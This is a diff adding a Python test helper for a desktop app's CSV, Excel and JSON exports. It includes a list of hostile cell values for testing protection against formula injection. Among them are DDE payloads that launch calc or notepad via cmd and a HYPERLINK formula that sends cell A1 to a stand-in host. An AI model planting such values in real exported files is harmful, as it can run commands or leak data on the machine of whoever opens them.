@@ -1,0 +1,203 @@
+"""What tests of the formats share: exports, hostile cells, and readers that are not ours."""
+
+import csv
+import io
+import json
+import sqlite3
+from collections.abc import Callable, Mapping, Sequence
+from contextlib import closing
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+import openpyxl  # type: ignore[import-untyped]
+from hypothesis import strategies as st
+from openpyxl.utils.escape import unescape  # type: ignore[import-untyped]
+
+from a4p_desktop.records.archive import Archive
+from a4p_desktop.records.csv_format import CsvFormat, csv_for_data, csv_for_excel
+from a4p_desktop.records.export import Selection, write_whole
+from a4p_desktop.records.formats import Format
+from a4p_desktop.records.json_format import JsonFormat
+from a4p_desktop.records.search import Search
+from a4p_desktop.records.tables import TABLES
+from a4p_desktop.records.xlsx_format import XlsxFormat
+
+GOLDEN = Path(__file__).parent / "golden"
+WHEN = datetime(2026, 11, 24, 10, 0, 59, 999, tzinfo=UTC)
+
+DATA = csv_for_data()
+# Not that of the place where the tests run.
+EXCEL = CsvFormat(
+    "csv-excel", "", csv_for_excel().sentence, ",", byte_order_mark=True, guarded=True
+)
+SEMICOLON = CsvFormat("csv-excel", "", "", ";", byte_order_mark=True, guarded=True)
+BARE = CsvFormat("bare", "", "", ";", byte_order_mark=False, guarded=False)
+EVERY: Sequence[Format] = (EXCEL, DATA, XlsxFormat(), JsonFormat())
+
+HOSTILE = [
+    "=1+1",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=cmd|' /C notepad'!'A1'",
+    '=HYPERLINK("http://x.example?leak="&A1,"x")',
+    " =1+1",
+    "\u00a0=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    '"=1+1"',
+    "'=1+1",
+    "“=1+1”",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\tx",
+    "\rx",
+    "\u202e=1+1\u202c",
+    "\u2066شيخ\u2069",
+    "\r\n",
+    '",',
+    '"',
+    "\0",
+    "\x1f\x1e\x1c",
+    "\ufffe\uffff",
+    "_x0041_",
+    "_x005F_x0000_x0000_",
+    "<r><t>rich</t></r>",
+    "<r></r>",
+    "</t></is></c>",
+    "<!--",
+    "]]>",
+    "&amp;",
+    " ",
+    "0012",
+    "1e5",
+    "2018-09-25",
+    "TRUE",
+    "#N/A",
+    "https://example.org/",
+    "mailto:x@example.org",
+    "internal:A1",
+    "👩🏽‍🚀" * 10,
+    "中国，",
+    "x" * 40_000,
+]
+CELL = st.lists(
+    st.sampled_from(HOSTILE)
+    | st.sampled_from([*",;\"'\r\n\t\0= +-@|<>&_"])
+    | st.text(st.characters(exclude_categories=["Cs"]), max_size=5),
+    max_size=4,
+).map("".join)
+
+
+def whole(table: str) -> Selection:
+    """All columns of all rows."""
+    return Selection(Search(table), tuple(column.name for column in TABLES[table].columns))
+
+
+def files(folder: Path) -> list[str]:
+    """The names of what is in a folder."""
+    return sorted(path.name for path in folder.iterdir())
+
+
+def exported(archive: Archive, selection: Selection, form: Format, *, about: bool = True) -> bytes:
+    """What is written."""
+    stream = io.BytesIO()
+    write_whole(archive, selection, form, stream, about=about, when=WHEN)
+    assert not stream.closed
+    return stream.getvalue()
+
+
+def with_cells(spare: Path, cells: Sequence[str | bytes]) -> Archive:
+    """An archive in which the persons of the first statements are `cells`; bytes are written as
+    text, whatever they are."""
+    with closing(sqlite3.connect(spare)) as database:
+        database.execute("PRAGMA synchronous = OFF")
+        database.execute("UPDATE statement SET person = NULL")
+        database.executemany(
+            "UPDATE statement SET person = CAST(? AS TEXT) WHERE id = ?",
+            [(cell, number) for number, cell in enumerate(cells, start=1)],
+        )
+        database.commit()
+    return Archive(spare)
+
+
+def rfc4180(text: str, separator: str = ",") -> list[list[str]]:
+    """The records of `text`, by a reader that knows RFC 4180 and nothing of Python's csv."""
+    records: list[list[str]] = []
+    record: list[str] = []
+    at = 0
+    while at < len(text):
+        if text[at] == '"':
+            end = at + 1
+            while text[end] != '"' or text[end : end + 2] == '""':
+                end += 2 if text[end] == '"' else 1
+            cell, at = text[at + 1 : end].replace('""', '"'), end + 1
+        else:
+            end = at
+            while text[end] not in f'{separator}\r\n"':
+                end += 1
+            cell, at = text[at:end], end
+        record.append(cell)
+        if text[at] == separator:
+            at += 1
+            if text[at : at + 2] == "\r\n":
+                record.append("")
+        if text[at : at + 2] == "\r\n":
+            at += 2
+            records.append(record)
+            record = []
+    assert not record
+    return records
+
+
+def python(text: str, separator: str = ",") -> list[list[str]]:
+    """The records of `text`, by Python's csv."""
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator, strict=True))
+
+
+def sheets(data: bytes) -> Sequence[Any]:
+    """The sheets of a workbook, by openpyxl."""
+    book = openpyxl.load_workbook(io.BytesIO(data), rich_text=False)
+    sheets: Sequence[Any] = book.worksheets
+    return sheets
+
+
+def cell_value(cell: Any) -> object:
+    """What a cell of a sheet holds, its characters as they are and not as XML spells them."""
+    assert cell.data_type != "f"
+    value = cell.value
+    if isinstance(value, datetime):
+        return value.date().isoformat()
+    return unescape(value) if isinstance(value, str) else value
+
+
+def _xlsx_rows(data: bytes) -> list[list[object]]:
+    return [[cell_value(cell) for cell in row] for row in sheets(data)[0].iter_rows()]
+
+
+def _json_rows(data: bytes) -> list[list[object]]:
+    rows = json.loads(data)["rows"]
+    names = list(rows[0]) if rows else []
+    return [names, *([row[name] for name in names] for row in rows)]
+
+
+def _csv_rows(data: bytes) -> list[list[object]]:
+    text = data.decode("utf-8-sig")
+    records = python(text)
+    assert rfc4180(text) == records
+    return [list(record) for record in records]
+
+
+READERS: Mapping[str, Callable[[bytes], list[list[object]]]] = {
+    "csv-excel": _csv_rows,
+    "csv": _csv_rows,
+    "xlsx": _xlsx_rows,
+    "json": _json_rows,
+}
+"""For each format: its rows with their heading, by a reader that is not ours."""
